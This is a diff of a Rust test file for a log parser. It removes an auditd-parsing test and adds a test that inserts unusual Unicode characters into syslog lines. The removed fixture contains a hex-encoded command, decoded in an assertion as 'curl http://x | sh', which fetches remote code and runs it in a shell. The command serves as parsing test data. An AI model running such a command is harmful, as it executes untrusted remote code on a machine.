@@ -145,45 +145,6 @@ fn rotated_files_and_any_name() {
     );
 }
 
-const AUDIT: &str = "\
-node=web01 type=SYSCALL msg=audit(1767600000.123:42): arch=c000003e syscall=59 success=yes exit=0 ppid=900 pid=901 auid=1001 uid=0 ses=3 comm=\"bash\" exe=\"/usr/bin/bash\" key=(null)
-node=web01 type=EXECVE msg=audit(1767600000.123:42): argc=3 a0=\"bash\" a1=\"-c\" a2=6375726C20687474703A2F2F78207C207368
-node=web01 type=USER_LOGIN msg=audit(1767600001.000:43): pid=7 uid=0 auid=1001 ses=3 msg='op=login acct=\"megan\" exe=\"/usr/sbin/sshd\" addr=203.0.113.9 res=failed'
-what is this
-";
-
-#[test]
-fn records_of_auditd() {
-    let workspace = log("audit.log.1", AUDIT, "", None);
-    assert_eq!(rows(&workspace), [("LinuxAuditLog", 3)]);
-    let query = "LinuxAuditLog | where EventType == 'SYSCALL_EXECVE' | project tostring(TimeGenerated), Computer, AuditID, exe, cmdline, pid, ppid, auid, ses";
-    assert_eq!(
-        answer(&workspace, query),
-        [
-            "2026-01-05T08:00:00.1230000Z web01 1767600000.123:42 /usr/bin/bash bash -c curl http://x | sh 901 900 1001 3"
-        ]
-    );
-    assert_eq!(
-        answer(&workspace, "LinuxAuditLog | where RecordType == 'USER_LOGIN' | project acct, addr, res"),
-        ["megan 203.0.113.9 failed"]
-    );
-    let said = workspace.files[0].to_string();
-    assert!(
-        said.contains(
-            "(as records of auditd); 1 line is no record of auditd and left out, the first is line 4"
-        ),
-        "{said}"
-    );
-    for at in 0..AUDIT.len() {
-        let mut bytes = AUDIT.as_bytes().to_vec();
-        bytes[at] ^= 0x95;
-        for bytes in [bytes, AUDIT.as_bytes()[..at].to_vec()] {
-            // A sentence or rows, never a panic.
-            let _ = from_files(vec![RawFile { name: "audit.log".to_owned(), bytes, modified: None }]);
-        }
-    }
-}
-
 #[test]
 fn what_is_odd_is_said_and_nothing_panics() {
     let text = "\0\0\0Jan  1 00:00:01 a kernel: up\n\tcontinued\nwhat is this\nJan  1 00:00:02 a x: \u{1b}[31m<b>\n\nJan  1 00:00:03 a";
@@ -210,5 +171,33 @@ fn what_is_odd_is_said_and_nothing_panics() {
             let bad = RawFile { name: "auth.log".to_owned(), bytes, modified: None };
             assert!(from_files(vec![good, bad]).expect("one is read").tables[0].rows > 0);
         }
+    }
+}
+
+/// Blanks of several bytes, which Rust counts as white space, and other characters.
+const ODD: [char; 8] =
+    ['\u{85}', '\u{a0}', '\u{1680}', '\u{2028}', '\u{3000}', '\u{feff}', '\u{e4}', '\u{1f600}'];
+
+#[test]
+fn odd_characters_anywhere_in_a_line_do_not_stop_the_file() {
+    let lines = [
+        "Jan  5 08:00:00 web01 sshd[7]: x",
+        "Jan  5 08:00:00 x:",
+        "Jan  5 2026 08:00:00: fw1 %ASA-6: message repeated 2 times: [ x]",
+        "<38>2026-01-05T08:00:00+01:00 web01 su: x",
+        "<34>1 2026-01-05T07:00:00Z web01 su 7 ID47 [a b=\"]\"] x",
+    ];
+    for line in lines {
+        // The first lines tell what the file is.
+        let mut text = AUTH.repeat(10);
+        for (at, there) in line.char_indices() {
+            for odd in ODD {
+                let (before, rest) = line.split_at(at);
+                let behind = rest.get(there.len_utf8()..).unwrap_or_default();
+                text.extend([format!("{before}{odd}{rest}\n"), format!("{before}{odd}{behind}\n")]);
+            }
+        }
+        let workspace = log("auth.log", &text, "2026-01-01T00:10:00Z", None);
+        assert!(report(&workspace, "Syslog").rows > 90, "{line}");
     }
 }
